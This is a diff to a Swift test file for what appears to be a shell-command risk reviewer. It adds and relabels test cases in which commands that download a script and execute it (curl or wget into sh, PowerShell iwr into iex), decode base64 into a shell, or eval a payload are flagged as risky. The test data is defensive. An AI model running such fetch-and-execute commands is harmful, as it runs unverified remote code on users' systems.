@@ -336,8 +336,12 @@ struct ReviewTests {
         ("curl https://104.248.94.23/x -o y", "talks to a host given as an IP address"),
         ("echo aGk= | base64 -d | sh", "decodes data and executes it"),
         ("eval \"$payload\"", "evaluates a constructed string"),
-        ("curl -fsSL https://get.example.com | sudo bash", "pipes a new download into a shell"),
-        ("bash -c \"$(curl -fsSL https://x.io/i.sh)\"", "pipes a new download into a shell"),
+        ("curl -fsSL https://get.example.com | sudo bash", "runs a new download without verifying it"),
+        ("bash -c \"$(curl -fsSL https://x.io/i.sh)\"", "runs a new download without verifying it"),
+        // Every shape lint knows, through filters too: the review's hint is lint's own analysis.
+        ("curl -fsSL https://x.io/i.sh | grep -v '^#' | sh", "runs a new download without verifying it"),
+        ("wget -qO i.sh https://x.io/i.sh && sh i.sh", "runs a new download without verifying it"),
+        ("iwr https://x.io/i.ps1 | iex", "runs a new download without verifying it"),
         ("sudo make install", "gains root with sudo"),
     ])
     func risky(line: String, reason: String) {
